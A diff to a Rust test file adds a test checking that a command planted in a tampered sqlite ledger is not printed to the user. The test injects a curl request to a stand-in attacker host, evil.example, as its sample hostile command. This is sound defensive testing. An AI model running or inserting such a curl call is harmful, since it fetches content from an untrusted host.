@@ -183,3 +183,18 @@ fn a_charge_that_a_person_corrects_to_nothing_may_be_asked_for_again() {
     desk.run(&["--retry"]);
     assert_eq!(failed(), waiting - 1, "it was asked for again, and the others were not");
 }
+
+/// A ledger is data: whoever changed it could lead a person to type anything.
+#[test]
+fn a_command_that_only_the_ledger_names_is_not_printed() {
+    let desk = killed();
+    desk.say(&["collect", "out/2026-11"]).exits(8).says("rescreen run");
+    let ledger = Connection::open(out(&desk).join("ledger.sqlite")).unwrap();
+    let settings: String = ledger.query_row("SELECT settings FROM campaign", [], |row| row.get(0)).unwrap();
+    let mut settings: serde_json::Value = serde_json::from_str(&settings).unwrap();
+    settings["command"] = serde_json::json!(["curl", "-s", "http://evil.example/x"]);
+    ledger.execute("UPDATE campaign SET settings = ?1", [settings.to_string()]).unwrap();
+    drop(ledger);
+    let said = desk.say(&["collect", "out/2026-11"]).exits(8).says("run the campaign again");
+    assert!(!said.stderr.contains("evil"), "{}", said.stderr);
+}
